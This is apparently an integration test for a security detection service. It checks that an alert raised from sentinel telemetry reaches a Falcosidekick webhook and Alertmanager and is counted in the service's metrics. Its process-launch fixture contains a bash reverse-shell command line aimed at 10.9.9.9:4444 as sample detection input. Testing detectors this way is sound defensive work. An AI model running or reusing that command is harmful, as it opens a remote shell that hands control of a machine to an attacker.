// The outputs wired into the running intelligence service: configured through its environment as
// the chart does, an alert raised from a sentinel's telemetry batch reaches a webhook and
// Alertmanager (Debian's prometheus-alertmanager), and the counters are on the service's /metrics.
import { connectBus, provision, type Bus } from '@omega/bus';
import { createLogger } from '@omega/runtime';
import { runService, type RunningService } from '@omega/service';
import {
  eventually,
  localServiceEnv,
  startAlertmanager,
  withNats,
  type Alertmanager,
} from '@omega/testkit';
import {
  buildIntelligence,
  INTELLIGENCE_RESOURCES,
  intelligenceServiceConfigSchema,
  type IntelligenceServiceConfig,
} from '../intelligence-service';
import { startHttpReceiver, type HttpReceiver } from '../testing/http-receiver';
import { processLaunch } from '../testing/spec-events';
import { SpecSentinel } from '../testing/spec-sentinel';

const nats = withNats({ jetstream: true });
let running: RunningService<IntelligenceServiceConfig>;
let bus: Bus;
let receiver: HttpReceiver;
let alertmanager: Alertmanager;
let sentinel: SpecSentinel;

beforeAll(async () => {
  receiver = await startHttpReceiver();
  alertmanager = await startAlertmanager();
  running = await runService({
    name: 'intelligence',
    configSchema: intelligenceServiceConfigSchema,
    resources: INTELLIGENCE_RESOURCES,
    installSignalHandlers: false,
    env: localServiceEnv(nats.url, {
      OMEGA_INTELLIGENCE_AUDIT_ALERTS: 'false',
      OMEGA_INTELLIGENCE_OUTPUTS: JSON.stringify([
        { name: 'sidekick', type: 'falcosidekick', url: `${receiver.url}/` },
        { name: 'am', type: 'alertmanager', url: alertmanager.url, minSeverity: 'high' },
      ]),
    }),
    build: buildIntelligence,
  });
  bus = await connectBus({
    servers: nats.url,
    name: 'outputs-service-spec',
    logger: createLogger({ service: 'sentinel', level: 'silent' }),
  });
  await provision(bus, { streams: ['TELEMETRY', 'ALERTS', 'DLQ'], kv: ['omega_identities'] });
  sentinel = await SpecSentinel.enroll(bus, 'node-1');
}, 60_000);

nats.beforeStop(async () => {
  await bus?.drain();
  await running?.service.shutdown('test done');
  await alertmanager?.stop();
  await receiver?.close();
});

it('sends an alert raised from telemetry to every configured output and counts it', async () => {
  await sentinel.publish('process', [
    processLaunch(
      {
        'omega.pod': 'cart-9',
        Image: '/bin/bash',
        CommandLine: 'bash -i >& /dev/tcp/10.9.9.9/4444 0>&1',
        ParentImage: '/bin/bash',
      },
      { id: 'evt-output-1', timeNs: BigInt(Date.now()) * 1_000_000n },
    ),
  ]);
  const [request] = await eventually('the falcosidekick POST', () =>
    receiver.requests.length > 0 ? receiver.requests : undefined,
  );
  const payload = JSON.parse(request!.body) as {
    priority: string;
    output_fields: Record<string, unknown>;
    tags: string[];
  };
  expect(payload.priority).toBe('Error');
  expect(payload.output_fields).toMatchObject({
    'omega.rule.id': 'sigma:0b6a6f0e-3f7c-4d4e-9a51-1c2d3e4f5a02',
    'k8s.ns.name': 'shop',
    'k8s.pod.name': 'cart-9',
    'omega.evidence.event_ids': 'evt-output-1',
  });
  expect(payload.tags.length).toBeGreaterThan(0);
  const [held] = await eventually('the alert in Alertmanager', async () => {
    const alerts = await alertmanager.alerts();
    return alerts.length > 0 ? alerts : undefined;
  });
  expect(held!.labels).toMatchObject({ severity: 'high', pod: 'shop/cart-9' });
  const metrics = await (await fetch(`http://127.0.0.1:${running.httpPort}/metrics`)).text();
  expect(metrics).toContain('omega_intelligence_output_sent_total{output="sidekick"} 1');
  expect(metrics).toContain('omega_intelligence_output_sent_total{output="am"} 1');
});
